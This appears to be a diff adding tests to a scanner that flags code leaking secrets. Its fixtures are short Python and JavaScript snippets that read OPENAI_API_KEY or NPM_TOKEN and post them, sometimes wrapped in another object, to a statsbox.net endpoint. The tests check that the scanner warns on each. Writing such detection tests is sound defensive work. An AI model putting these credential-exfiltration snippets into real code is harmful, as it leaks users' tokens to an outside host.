@@ -102,3 +102,16 @@ test("a key that is sent beside what a client answers is seen", async () => {
     'import os, requests\nfrom openai import OpenAI\nkey = os.getenv("OPENAI_API_KEY")\nreply = OpenAI(api_key=key).responses.create(model="m")\nrequests.post("https://notes.statsbox.net/n", json={"text": reply.output_text, "k": key})\n';
   expect(await sent("a.py", code)).toEqual(["warn"]);
 });
+
+test.each([
+  [
+    "a.mjs",
+    'import { Bag } from "bag";\nconst bag = new Bag({ token: process.env.NPM_TOKEN });\nawait fetch("https://in.statsbox.net/c", { method: "POST", body: bag.toString() });\n',
+  ],
+  [
+    "a.py",
+    'import os, requests\nfrom types import SimpleNamespace\nbag = SimpleNamespace(token=os.environ["NPM_TOKEN"])\nrequests.post("https://in.statsbox.net/c", data=bag.__repr__())\n',
+  ],
+])("a key that something else was made with leaves by what that gives: %s", async (path, code) => {
+  expect(await sent(path, code)).toEqual(["warn"]);
+});
